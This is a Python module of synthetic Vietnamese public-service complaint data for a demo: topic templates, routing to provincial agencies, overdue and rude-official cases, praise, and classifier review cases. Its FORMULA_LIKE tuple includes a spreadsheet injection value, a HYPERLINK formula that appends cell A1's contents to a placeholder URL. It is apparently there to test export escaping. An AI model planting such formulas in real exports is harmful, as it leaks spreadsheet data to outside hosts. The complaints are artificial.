"""Wording for synthetic complaints (demo data): per-topic templates, flagged cases,
praise, and Vietnamese names. {place} is a ward or commune name."""

from __future__ import annotations

TOPIC_WEIGHTS: dict[str, int] = {
    "dat_dai": 12, "xay_dung_do_thi": 10, "giao_thong": 9, "moi_truong": 9, "dien": 8,
    "cap_thoat_nuoc": 6, "y_te": 6, "giao_duc": 5, "an_ninh_trat_tu": 7,
    "lao_dong_an_sinh": 6, "tu_phap_ho_tich": 5, "tai_chinh_doanh_nghiep": 4,
    "cong_thuong": 3, "nong_nghiep": 3, "vien_thong_cntt": 3,
    "van_hoa_the_thao_du_lich": 2, "khac": 2,
}

# The provincial body that owns each topic (../shared/taxonomy.md, step 4).
TOPIC_AGENCY: dict[str, str] = {
    "dat_dai": "so-nnmt", "moi_truong": "so-nnmt", "nong_nghiep": "so-nnmt",
    "xay_dung_do_thi": "so-xd", "giao_thong": "so-xd", "y_te": "so-yt", "giao_duc": "so-gddt",
    "lao_dong_an_sinh": "so-nv", "tu_phap_ho_tich": "so-tp", "tai_chinh_doanh_nghiep": "so-tc",
    "cong_thuong": "so-ct", "vien_thong_cntt": "so-khcn",
    "van_hoa_the_thao_du_lich": "so-vhttdl", "an_ninh_trat_tu": "ca-tinh",
    "dien": "pc-{region}", "cap_thoat_nuoc": "cn-{region}", "khac": "vp-ubnd-tinh",
}

# Topics usually settled by the commune or ward itself.
COMMUNE_TOPICS = frozenset({"xay_dung_do_thi", "moi_truong", "an_ninh_trat_tu",
                            "tu_phap_ho_tich", "giao_thong", "dat_dai"})

CHANNEL_WEIGHTS: dict[str, int] = {"phone": 55, "zalo": 15, "web": 14, "email": 5, "sms": 6,
                                   "walk-in": 5}

TEMPLATES: dict[str, tuple[str, ...]] = {
    "dat_dai": ("Hồ sơ cấp giấy chứng nhận quyền sử dụng đất tại {place} nộp đã lâu chưa có "
                "kết quả.", "Tranh chấp ranh giới đất với hộ liền kề ở {place}, đề nghị đo đạc "
                "lại."),
    "xay_dung_do_thi": ("Hộ dân ở {place} xây nhà lấn chiếm lề đường, đề nghị kiểm tra.",
                        "Công trình xây dựng ban đêm gây ồn ở {place}."),
    "giao_thong": ("Đường liên ấp ở {place} xuống cấp, nhiều ổ gà nguy hiểm.",
                   "Cầu tạm ở {place} bị lún, xe qua lại rất nguy hiểm."),
    "moi_truong": ("Rác thải tập kết ở {place} không được thu gom, bốc mùi hôi.",
                   "Cơ sở chăn nuôi ở {place} xả nước thải ra kênh."),
    "dien": ("Mất điện kéo dài nhiều giờ ở {place} không báo trước.",
             "Đèn đường ở {place} hư hơn một tuần chưa sửa."),
    "cap_thoat_nuoc": ("Nước máy ở {place} đục, có mùi, đề nghị kiểm tra.",
                       "Cống thoát nước ở {place} bị nghẹt, mưa là ngập."),
    "y_te": ("Trạm y tế {place} thiếu thuốc cấp cho người có thẻ bảo hiểm y tế.",
             "Phòng khám tư ở {place} hoạt động không có giấy phép."),
    "giao_duc": ("Trường học ở {place} thu thêm nhiều khoản ngoài quy định.",
                 "Đề nghị bố trí thêm lớp bán trú cho học sinh ở {place}."),
    "an_ninh_trat_tu": ("Nhóm thanh niên tụ tập đua xe ban đêm ở {place}.",
                        "Đăng ký thường trú ở {place} chờ lâu chưa được giải quyết."),
    "lao_dong_an_sinh": ("Hồ sơ trợ cấp người cao tuổi ở {place} chưa được chi trả.",
                         "Công ty ở {place} nợ lương công nhân hai tháng."),
    "tu_phap_ho_tich": ("Xin trích lục khai sinh ở {place} bị hẹn nhiều lần.",
                        "Chứng thực bản sao ở {place} thu phí cao hơn quy định."),
    "tai_chinh_doanh_nghiep": ("Hồ sơ đăng ký hộ kinh doanh ở {place} chưa được cấp.",
                               "Đề nghị hướng dẫn hoàn thuế thu nhập cá nhân."),
    "cong_thuong": ("Cửa hàng ở {place} bán hàng không rõ nguồn gốc.",
                    "Chợ {place} thu phí mặt bằng không có biên lai."),
    "nong_nghiep": ("Lúa ở {place} bị sâu bệnh, đề nghị hỗ trợ thuốc.",
                    "Đê bao ở {place} có nguy cơ sạt lở."),
    "vien_thong_cntt": ("Nộp hồ sơ trên cổng dịch vụ công bị lỗi, không ký số được.",
                        "Sóng điện thoại ở {place} rất yếu."),
    "van_hoa_the_thao_du_lich": ("Quán karaoke ở {place} hát quá giờ quy định.",
                                 "Sân thể thao ở {place} bị chiếm dụng làm bãi xe."),
    "khac": ("Đề nghị cung cấp thông tin về chính sách mới.",
             "Góp ý về giờ làm việc của cơ quan hành chính ở {place}."),
}

TRE_HAN = ("Hồ sơ nộp tại bộ phận một cửa {place} đã quá hẹn trả kết quả hơn hai tuần mà "
           "chưa được giải quyết.",
           "Giấy hẹn ghi trả kết quả từ tháng trước, đến nay bộ phận một cửa {place} vẫn "
           "chưa trả, cũng không có văn bản xin lỗi.")
THAI_DO = ("Cán bộ tiếp nhận hồ sơ ở {place} có thái độ hách dịch, gây phiền hà cho người "
           "dân.", "Công chức ở {place} vắng mặt trong giờ làm việc, người dân chờ cả buổi.",
           "Cán bộ ở {place} gợi ý đưa tiền bồi dưỡng để giải quyết nhanh.")
PRAISE = ("Xin khen ngợi cán bộ một cửa {place} đã hướng dẫn tận tình, chu đáo.",
          "Cảm ơn công chức tư pháp {place} làm việc nhiệt tình, giải quyết hồ sơ sớm hơn "
          "hẹn.")
FORMULA_LIKE = ("=HYPERLINK(\"http://x?\"&A1,\"bấm\") ", "- đường hư ", "+84 ", "@")

FAMILY = ("Nguyễn", "Trần", "Lê", "Phạm", "Huỳnh", "Hoàng", "Phan", "Võ", "Đặng", "Bùi",
          "Đỗ", "Hồ", "Ngô", "Dương", "Lý")
MIDDLE = ("Văn", "Thị", "Hữu", "Minh", "Thanh", "Ngọc", "Quốc", "Thị Kim", "Hoàng", "Đức")
GIVEN = ("An", "Bình", "Cường", "Dũng", "Hà", "Hạnh", "Hùng", "Lan", "Linh", "Mai", "Nam",
         "Nga", "Phúc", "Quang", "Sơn", "Tâm", "Thảo", "Trang", "Tuấn", "Yến")

# Cases the system is unsure of, as the review queue sees them: (text, suggested topic,
# its confidence, flags, the classifier's reasons). The place and the route are read
# from the text by the rules, so an ambiguous place ("phường 1") or a place-less text
# also goes to review for its route.
UNSURE: tuple[tuple[str, str | None, float, tuple[str, ...], tuple[str, ...]], ...] = (
    ("Đèn đường ở phường 1 hư cả tuần nay, tối đi lại rất nguy hiểm.", "dien", 0.81, (),
     ()),
    ("Nước sinh hoạt bị cúp từ sáng tới giờ ở khu phố 3 phường 2, không thấy thông báo.",
     "cap_thoat_nuoc", 0.77, (), ()),
    ("Tôi gọi hoài không ai nghe máy, việc của tôi tới giờ vẫn chưa xong.", "khac", 0.31, (),
     ("low_confidence", "uncertain_topic")),
    ("Cán bộ xã hẹn tới hẹn lui mà không nói rõ hồ sơ còn thiếu giấy tờ gì.",
     "tu_phap_ho_tich", 0.46, ("tre_han",), ("uncertain_topic", "uncertain_tre_han")),
    ("Nhà bên cạnh đốt rác rồi mở nhạc lớn tới khuya, nhắc mấy lần không được.",
     "moi_truong", 0.44, (), ("uncertain_topic",)),
    ("Cán bộ tiếp dân nói chuyện khó nghe khi tôi hỏi về hồ sơ đất của gia đình.", "dat_dai",
     0.58, ("thai_do",), ("uncertain_thai_do",)),
    ("My family needs help, the water pipe near the market is broken since yesterday.",
     None, 0.0, (), ("not_vietnamese",)),
    ("Con đường vô trường học lầy lội, xe cộ chạy ẩu, phụ huynh rất lo.", "giao_thong", 0.52,
     (), ("uncertain_topic",)),
    ("Xin hỏi chế độ cho người khuyết tật nộp ở đâu, đã hỏi nhiều nơi mà chưa rõ.",
     "lao_dong_an_sinh", 0.49, (), ("low_confidence",)),
    ("Quán nhậu lấn chiếm vỉa hè ở chợ phường 3, tối nào cũng ồn ào tới khuya.",
     "xay_dung_do_thi", 0.55, (), ("uncertain_topic",)),
)
